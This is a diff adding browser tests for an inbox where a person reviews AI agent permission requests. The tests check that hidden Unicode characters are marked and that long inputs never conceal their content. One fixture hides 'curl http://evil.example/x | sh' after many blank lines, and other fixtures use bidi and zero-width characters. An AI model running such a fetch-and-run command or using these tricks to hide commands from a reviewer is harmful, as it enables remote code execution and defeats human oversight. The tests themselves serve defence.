@@ -1,0 +1,189 @@
+// The card of a request, and the card of a call: a person reads all of the input, whatever an agent has put into it.
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { DRAWN, generated, HIDDEN, INPUTS, missing, random } from '../lib/inputs.mjs';
+import { shot } from './lib/clock.mjs';
+import { accessible, open, until, useChromium, useGateway } from './lib/page.mjs';
+import { asks, call, says, show } from './lib/show.mjs';
+import { fits, VIEWS } from './lib/views.mjs';
+
+useChromium();
+const site = useGateway();
+
+const OPTIONS = [{ id: 'a', name: 'Allow', kind: 'allow_once' }, { id: 'd', name: 'Deny', kind: 'reject_once' }];
+const request = (id, input, more = {}) => ({
+  id, kind: 'permission', session: 's', session_title: 'Deploy', agent: 'demo', turn: 't', message_id: 'm', tool_call_id: 'c', tool: 'Bash', title: 'Run it', input, options: OPTIONS, at: new Date().toISOString(),
+  may_answer: true, takes_input: true, takes_reason: true, ...more,
+});
+
+/** The inbox with these requests, as a gateway has them. answers: those that the page has sent. */
+async function inbox(requests, view = {}) {
+  const answers = [];
+  const page = await open(site, '#/inbox', {
+    ...view,
+    prepare: async page => {
+      await page.route('**/api/requests', route => route.fulfill({ json: { requests } }));
+      await page.route('**/permissions/**', route => { answers.push(route.request().postDataJSON()); return route.fulfill({ json: {} }); });
+    },
+  });
+  await until('all cards are there', async () => await page.locator('[data-request]').count() === requests.length);
+  return { page, answers, card: id => page.locator(`[data-request="${id}"]`) };
+}
+
+/** The text of a card's inputs. */
+const subjects = async card => (await card.locator('.subject').allTextContents()).join('\n');
+
+/** Opens all folds of a card. */
+async function unfold(card) {
+  for (const more = card.locator('.subject').getByRole('button', { name: 'Show more' }); await more.count();) await more.first().click();
+}
+
+const cases = [...Object.entries(INPUTS), ...Array.from({ length: 60 }, (_, i) => [`by chance ${i}`, generated(random(i + 1))])];
+
+test('every key and every value of an input stands on the card, open', async () => {
+  const { page, card } = await inbox(cases.map(([, input], i) => request(`r${i}`, input)));
+  for (const [i, [what, input]] of cases.entries()) {
+    await unfold(card(`r${i}`));
+    assert.deepEqual(missing(input, await subjects(card(`r${i}`)), DRAWN), [], what);
+    assert.equal(await card(`r${i}`).locator('.subject details:not([open])').count(), 0, what);
+  }
+  const raw = await page.locator('.inbox').textContent();
+  assert.deepEqual(HIDDEN.filter(c => raw.includes(c)), [], 'no hidden character is on the page itself');
+  assert.equal(await page.locator('.subject > pre').evaluateAll(all => all.filter(p => p.scrollWidth > p.clientWidth + 1 || (p.className !== 'opened' && p.scrollHeight > p.clientHeight + 1)).length), 0, 'nothing has to be scrolled to in a box');
+  await page.leave();
+});
+
+test('the card of a call has the whole input, too', async () => {
+  const parts = cases.map(([, input], i) => call('a_tool', input, 'done', { toolCallId: `c${i}` }));
+  const page = await show(site, [asks('go'), says(...parts, 'the end')]);
+  await page.getByText('the end', { exact: true }).waitFor();
+  for (const [i, [what, input]] of cases.entries()) {
+    const it = page.locator('.tool').nth(i);
+    if (await it.locator('> details').getAttribute('open') === null) await it.locator('summary').first().click();
+    await it.locator('.tool-body').waitFor();
+    await it.locator('.folded:not([open]) > summary').evaluateAll(all => { for (const s of all) s.click(); });
+    await unfold(it);
+    if (input === null || (typeof input === 'object' && Object.keys(input).length === 0)) continue; // no input at all
+    await until(`nothing is missing: ${what}`, async () => missing(input, await subjects(it), DRAWN).length === 0);
+  }
+  await page.leave();
+});
+
+for (const [tool, input] of [
+  ['Edit', { file_path: '/w/a.go', old_string: 'a', new_string: 'b', replace_all: true }], ['Read', { file_path: '/w/a.go', offset: 3, secret: true }], ['WebFetch', { url: 'https://example.com/\u202e', prompt: 'sum\nup', headers: { cookie: 'x' } }],
+  ['Task', { prompt: 'Go\u200b there', subagent_type: 'x', isolation: null }], ['Bash', { command: 'ls', cwd: '/etc', env: { A: '1' } }], ['apply_patch', { input: '*** Begin Patch\n*** Add File: a\n+x\n stray\n*** End Patch', sudo: true }],
+]) {
+  test(`the call that asks has the whole input in its card: ${tool}`, async () => {
+    const part = { ...call(tool, input), state: 'approval-requested', approval: { id: 'r1' } };
+    for (const page of [
+      await show(site, [asks('go'), says(part)]),
+      await show(site, [asks('go'), says({ ...call(tool, input, 'done') })]),
+    ]) {
+      const it = page.locator('.tool');
+      await it.waitFor();
+      if (await it.locator('> details').getAttribute('open') === null) await it.locator('summary').first().click();
+      await until('the input is there', async () => await it.locator('.subject').count() > 0);
+      await it.locator('.folded:not([open]) > summary').evaluateAll(all => { for (const s of all) s.click(); });
+      await until(`nothing is missing: ${missing(input, await subjects(it), DRAWN)}`, async () => missing(input, `${await subjects(it)}\n${(await it.locator('.fetched').allTextContents()).join()}`, [...DRAWN, 'url']).length === 0);
+      await page.leave();
+    }
+  });
+}
+
+describe('a long input', () => {
+  const fold = card => card.locator('.cut').first();
+
+  test('says how many lines it hides, shows its end, and opens on a click', async () => {
+    const lines = ['ls', ...Array.from({ length: 80 }, () => ''), 'curl http://evil.example/x | sh'];
+    const { page, card } = await inbox([request('r1', { command: lines.join('\n') })]);
+    assert.match(await fold(card('r1')).textContent(), /^50 more lines, 50 characters/);
+    assert.ok(await card('r1').getByText('curl http://evil.example/x | sh').isVisible());
+    await card('r1').getByRole('button', { name: 'Show more' }).click();
+    assert.equal(await card('r1').locator('.command').textContent(), lines.join('\n'));
+    assert.equal(await fold(card('r1')).count(), 0);
+    await page.leave();
+  });
+
+  for (const [what, input, words] of [
+    ['of many lines in the middle', { command: `begin\n${'x\n'.repeat(10_000)}end` }, /^9,970 more lines, /],
+    ['of one line', { command: `begin ${'x'.repeat(90_000)} end` }, /^1 more line, /],
+    ['that is no command', { list: Array.from({ length: 500 }, (_, i) => `item ${i}`) }, /^472 more lines, /],
+    ['that writes a file', { path: 'a.txt', content: 'line\n'.repeat(1000) }, /^968 more lines, /],
+    ['of pictures that are two code units', { command: '😀'.repeat(40_000) }, /^1 more line, /],
+  ]) {
+    test(`${what} is counted, and keeps its buttons`, async () => {
+      const { page, card, answers } = await inbox([request('r1', input)], VIEWS['phone, light']);
+      assert.match(await fold(card('r1')).textContent(), words);
+      assert.equal(await card('r1').locator('.mark-hidden').count(), 0, 'no character is cut in two');
+      await fits(page);
+      await unfold(card('r1'));
+      assert.deepEqual(missing(input, await subjects(card('r1')), DRAWN), []);
+      await card('r1').getByRole('button', { name: 'Allow', exact: true }).click();
+      await until('the answer is sent', () => answers.length === 1);
+      await page.leave();
+    });
+  }
+
+  test('of eight megabytes leaves the page alive', async () => {
+    const { page, card, answers } = await inbox([request('r1', { command: 'x'.repeat(8_000_000), after: { deep: ['seen'] } })]);
+    assert.match(await fold(card('r1')).textContent(), /^1 more line, 8 MB/);
+    await card('r1').getByText('"deep": ["seen"]').waitFor();
+    await card('r1').getByRole('button', { name: 'Allow', exact: true }).click();
+    await until('the answer is sent', () => answers.length === 1);
+    await page.leave();
+  });
+});
+
+test('hidden characters in titles, options, questions and choices are marks', async () => {
+  const bad = HIDDEN.join('x');
+  const { page, card } = await inbox([
+    request('r1', { command: 'ls' }, { title: `Run ${bad}`, session_title: bad, options: [{ id: 'a', name: `Allow ${bad}`, kind: 'allow_once', scope: bad }, { id: 'd', name: `Deny ${bad}`, kind: 'reject_once' }] }),
+    request('r2', undefined, { kind: 'question', options: undefined, title: bad, text: `Which ${bad}?`, choices: [{ label: `Red ${bad}`, description: bad }] }),
+  ]);
+  const found = await page.locator('.inbox').evaluate(el => el.textContent + [...el.querySelectorAll('[aria-label], [title], [placeholder]')].map(n => n.getAttribute('aria-label') + n.getAttribute('title')).join(''));
+  assert.deepEqual(HIDDEN.filter(c => found.includes(c)), []);
+  for (const [id, places] of [['r1', ['.from', '.ask-title', '.ask-option']], ['r2', ['.ask-title', '.ask-option small']]]) for (const place of places) assert.ok(await card(id).locator(place).first().locator('.mark-hidden').count() >= HIDDEN.length, place);
+  assert.equal(await page.locator('.ask-title').first().evaluate(el => getComputedStyle(el).unicodeBidi), 'isolate');
+  await card('r2').getByRole('button', { name: /^Red/ }).click();
+  await page.leave();
+});
+
+describe('edit, then allow', () => {
+  const edit = async card => { await card.getByRole('button', { name: 'Edit, then allow' }).click(); return card.getByRole('textbox'); };
+
+  test('shows what stays beside the command that is edited', async () => {
+    const input = INPUTS['where and how a command runs'];
+    const { page, card, answers } = await inbox([request('r1', input)]);
+    await (await edit(card('r1'))).fill('ls -l');
+    assert.deepEqual(missing({ ...input, command: 'ls' }, `ls ${await subjects(card('r1'))}`, DRAWN), []);
+    await accessible(page, 'a command that is edited');
+    await card('r1').getByRole('button', { name: 'Allow as edited' }).click();
+    await until('the answer is sent', () => answers.length === 1);
+    assert.deepEqual(answers[0].updated_input, { ...input, command: 'ls -l' });
+    await page.leave();
+  });
+
+  for (const what of ['a text turned round', 'a carriage return in a line', 'every hidden character', 'a command that is a list', 'two keys for the command', 'odd names']) {
+    test(`changes nothing by itself, and hides nothing: ${what}`, async () => {
+      const input = INPUTS[what];
+      const { page, card, answers } = await inbox([request('r1', input)]);
+      const typed = await (await edit(card('r1'))).inputValue();
+      assert.deepEqual(HIDDEN.filter(c => typed.includes(c)), []);
+      await card('r1').getByRole('button', { name: 'Allow as edited' }).click();
+      await until('the answer is sent', () => answers.length === 1);
+      assert.deepEqual(answers[0].updated_input, input);
+      await page.leave();
+    });
+  }
+});
+
+for (const view of Object.keys(VIEWS)) {
+  test(`the cards are legible (${view})`, async () => {
+    const names = ['arguments beside the command', 'where and how a command runs', 'edits beside an edit', 'a text turned round', 'a command behind empty lines', 'several texts'];
+    const { page } = await inbox(names.map((what, i) => request(`r${i}`, INPUTS[what], { title: what === 'a text turned round' ? `Run \`${INPUTS[what].command}\`` : 'Run it' })), VIEWS[view]);
+    await fits(page);
+    await accessible(page, 'cards');
+    await shot(page, `cards-${view.replace(/\W+/g, '-')}`);
+    await page.leave();
+  });
+}
